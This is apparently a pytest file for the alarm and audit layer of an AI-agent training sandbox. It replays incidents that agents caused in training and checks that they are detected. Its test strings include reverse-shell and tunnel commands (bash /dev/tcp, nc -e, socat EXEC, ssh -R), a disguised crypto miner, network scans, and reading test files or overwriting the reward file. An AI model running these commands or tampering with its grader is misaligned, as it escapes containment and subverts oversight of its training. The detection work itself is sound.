"""Alarms and the audit: incidents that agents caused in training, acted out inside a sandbox."""

from __future__ import annotations

import asyncio
import time
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from typing import Any

import pytest

from ale.audit import AuditEvent
from ale.envs.terminal import TerminalEnv
from ale.errors import SandboxStopped
from ale.messages import Score
from ale.sandbox import AlarmRules, Command, Limits, Network, Rule, SandboxSpec
from ale.sandbox.alarms import SCANNED, heard, seen
from ale.sandbox.egress import hang_up
from ale.task import Task

HERE = "127.0.0.1"


@asynccontextmanager
async def origin() -> AsyncIterator[int]:
    """The port of a web server on loopback that says hello."""

    async def serve(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        await reader.readuntil(b"\r\n\r\n")
        writer.write(b"HTTP/1.1 200 OK\r\nConnection: close\r\n\r\nhello")
        await hang_up(writer)

    server = await asyncio.start_server(serve, HERE, 0)
    async with server:
        yield server.sockets[0].getsockname()[1]


def fetch(port: int) -> str:
    """A request through the proxy, by bash alone."""
    head = f"GET http://{HERE}:{port}/ HTTP/1.1\\r\\n\\r\\n"
    return f"exec 3<>/dev/tcp/127.0.0.1/13128; printf '{head}' >&3; cat <&3; exec 3>&-"


# -- the incidents


async def test_a_reverse_ssh_tunnel_is_heard_seen_and_leads_nowhere(local: Any) -> None:
    tunnel = "ssh -fNR 8080:localhost:22 agent@203.0.113.7 2> /dev/null; exec 3<>/dev/tcp/203.0.113.7/22"
    async with local.start(SandboxSpec(label="g3")) as sandbox:
        await sandbox.exec(Command(shell="true"))
        done = await sandbox.exec(Command(shell=tunnel))
        assert done.exit_code != 0
        alarms, events = sandbox.alarms(), sandbox.audit()
    assert {(alarm.rule, alarm.action, alarm.command) for alarm in alarms} == {("tunnel", "flag", 2)}
    assert "ssh -fNR" in alarms[0].evidence
    event = events[-1]
    assert (event.host, event.port, event.allowed, event.command) == ("203.0.113.7", 22, False, 2)
    assert event.process == "bash"
    assert event.pid is not None
    assert event.sandbox == sandbox.id


async def test_mining_is_stopped_before_it_begins_where_that_is_the_setting(local: Any) -> None:
    async with local.start(SandboxSpec(alarms=AlarmRules(miner="stop"))) as sandbox:
        with pytest.raises(SandboxStopped, match="miner"):
            await sandbox.exec(Command(shell="touch begun; ./xmrig -o stratum+tcp://pool.minexmr.com:4444"))
        with pytest.raises(SandboxStopped):
            await sandbox.exec(Command(shell="true"))
        assert [alarm.action for alarm in sandbox.alarms()] == ["stop"]


async def test_a_miner_in_disguise_is_stopped_when_it_calls_its_pool(local: Any) -> None:
    disguised = "echo 'exec 3<>/dev/''tcp/203.0.113.9/3333; sleep 60' > train.sh; bash train.sh & sleep 60"
    async with local.start(SandboxSpec(alarms=AlarmRules(miner="stop"))) as sandbox:
        with pytest.raises(SandboxStopped, match=r"203\.0\.113\.9:3333"):
            await sandbox.exec(Command(shell=disguised))


async def test_a_storm_of_forks_is_counted(local: Any) -> None:
    async with local.start(SandboxSpec(limits=Limits(pids=16))) as sandbox:
        await sandbox.exec(Command(shell="for i in $(seq 40); do sleep 0.2 & done; wait", timeout_s=3))
        if not local.capabilities()["pids"].startswith("cgroup"):
            pytest.skip("only a cgroup counts the processes it refused")
        (event,) = [event for event in sandbox.audit() if event.kind == "fork"]
        assert event.command == 1
        assert [(alarm.rule, alarm.action) for alarm in sandbox.alarms()] == [("forks", "count")]


async def test_a_scan_is_seen_by_its_many_destinations(local: Any) -> None:
    scan = f"for i in $(seq {SCANNED + 2}); do (exec 3<>/dev/tc''p/198.51.100.$i/80) 2> /dev/null; done; true"
    async with local.start(SandboxSpec()) as sandbox:
        await sandbox.exec(Command(shell=scan.replace("''", "${x}")))
        assert len(sandbox.audit()) == SCANNED + 2
        assert "scan" in {alarm.rule for alarm in sandbox.alarms()}


# -- the words


@pytest.mark.parametrize(
    ("text", "rule"),
    [
        ("ssh -R 2222:localhost:22 me@host", "tunnel"),
        ("ssh -fN -D1080 host", "tunnel"),
        ("autossh -M 0 host", "tunnel"),
        ("/tmp/ngrok tcp 22", "tunnel"),
        ("nc -e /bin/sh 1.2.3.4 99", "tunnel"),
        ("bash -i >& /dev/tcp/1.2.3.4/99 0>&1", "tunnel"),
        ("socat TCP:1.2.3.4:99 EXEC:sh", "tunnel"),
        ("nmap -sS 10.0.0.0/8", "scan"),
        ("nc -zv 10.0.0.1 1-1000", "scan"),
        ("wget x/XMRig && ./XMRig", "miner"),
        ("./a --url stratum+ssl://x:1", "miner"),
        ("cat /tests/test.sh", "tests"),
        ("find / -path '/tests/*'", "tests"),
        ("echo 1 > /logs/verifier/reward.txt", "tests"),
    ],
)
def test_the_words_of_an_incident_are_heard(text: str, rule: str) -> None:
    assert rule in dict(heard(text))


@pytest.mark.parametrize(
    "text",
    [
        *("ls -R", "grep -R foo .", "ssh-keygen -t rsa", "pytest tests/", "cat tests/test_a.py", "cd src/tests && ls"),
        *("python -m unittest discover -s ./tests", "nc -l 8080", "make reward", "cat mytests/x", "echo frpcx"),
        *("git commit -m 'ssh works'; rm -R x", "cp -R a b", "grep -rn nanopooling ."),
    ],
)
def test_ordinary_work_rings_no_bell(text: str) -> None:
    assert list(heard(text)) == []


def test_a_rule_that_is_off_is_off_and_an_allowed_request_is_no_scan() -> None:
    events = [
        AuditEvent(sandbox="s", command=1, at_s=0, kind="proxy", host=f"h{i}", port=443, allowed=True)
        for i in range(99)
    ]
    tried: set[tuple[str, int]] = set()
    assert [alarm for event in events for alarm in seen(event, tried)] == []


def test_a_text_made_to_be_slow_is_read_in_a_moment() -> None:
    began = time.process_time()
    for text in ("ssh " * 50_000, "ssh " + "-a" * 100_000, "nc -" * 50_000, "socat " * 40_000):
        list(heard(text))
    assert time.process_time() - began < 10


# -- the audit


async def test_every_request_is_on_record_with_who_asked_and_how_much(local: Any) -> None:
    async with origin() as port:
        network = Network(mode="allow", rules=(Rule(host=HERE, ports=(port,)),))
        async with local.start(SandboxSpec(network=network, alarms=AlarmRules(tunnel=None))) as sandbox:
            good = await sandbox.exec(Command(shell=fetch(port)))
            bad = await sandbox.exec(Command(shell=fetch(9)))
            assert good.stdout.endswith(b"hello")
            assert bad.stdout.startswith(b"HTTP/1.1 403")
            await sandbox.lock_network()
            locked = await sandbox.exec(Command(shell=fetch(port)))
            assert locked.stdout.startswith(b"HTTP/1.1 403")
            async with sandbox.fork(1) as (fork,):  # another incarnation, and another sandbox: locked too
                forked = await fork.exec(Command(shell=fetch(port)))
            assert b"refused" in forked.stderr
            again = await sandbox.exec(Command(shell=fetch(port)))
            assert b"refused" in again.stderr
            events = sandbox.audit()
            assert sandbox.alarms() == ()
    assert [(event.command, event.port, event.allowed) for event in events] == [
        *((1, port, True), (2, 9, False), (3, port, False)),
    ]
    first = events[0]
    assert (first.kind, first.method, first.host) == ("proxy", "GET", HERE)
    assert first.received == len(good.stdout)
    assert first.sent > 0
    assert first.process in ("bash", "cat")


async def test_events_of_commands_that_overlap_are_told_apart(local: Any) -> None:
    def knock(last: int) -> Command:
        return Command(shell=f"exec 3<>/dev/tcp/203.0.113.{last}/80; sleep 0.2")

    async with local.start(SandboxSpec()) as sandbox:
        await asyncio.gather(*(sandbox.exec(knock(last)) for last in (1, 2, 3)))
        assert {event.host: event.command for event in sandbox.audit()} == {f"203.0.113.{n}": n for n in (1, 2, 3)}


async def test_without_a_policy_there_is_no_proxy_and_nothing_that_points_to_one(local: Any) -> None:
    async with local.start(SandboxSpec()) as sandbox:
        assert (await sandbox.exec(Command(shell="env | grep -i proxy"))).stdout == b""
        assert (await sandbox.exec(Command(shell="exec 3<>/dev/tcp/127.0.0.1/13128"))).exit_code != 0
        assert sandbox.audit() == ()  # a sandbox's own loopback is its own affair


async def test_a_flood_of_connections_neither_fills_the_log_nor_starves_the_engine(local: Any) -> None:
    knock = "while :; do (exec 3<>/dev/tcp/203.0.113.1/80) 2> /dev/null; done"
    async with local.start(SandboxSpec()) as sandbox, local.start(SandboxSpec()) as neighbour:
        flood = asyncio.ensure_future(sandbox.exec(Command(shell=f"{knock} & {knock}", timeout_s=1)))
        while not flood.done():
            assert (await neighbour.exec(Command(shell="true"))).ok
        assert (await flood).timed_out
        assert 0 < len(sandbox.audit()) <= 1000


async def test_an_environment_tells_of_alarms_turn_by_turn_and_ends_when_one_stops_it(local: Any) -> None:
    async def never(task: Task, snapshot: object) -> Score:
        raise AssertionError("a stopped episode is not graded")

    task = Task(id="t", instruction="", files=(), tests=())
    env = TerminalEnv(task, local, never, alarms=AlarmRules(miner="stop"))
    try:
        await env.reset()
        turns = [(await env.step(line)).result for line in ("ls", "cat /tests/test.sh", "ls")]
        last = await env.step("xmrig -o pool:3333")
        with pytest.raises(SandboxStopped):
            await env.score()
    finally:
        await env.close()
    assert [[alarm.rule for alarm in turn.alarms] for turn in turns if turn is not None] == [[], ["tests"], []]
    assert last.terminated
    assert last.result is not None
    assert [(alarm.rule, alarm.action, alarm.command) for alarm in last.result.alarms] == [("miner", "stop", 4)]
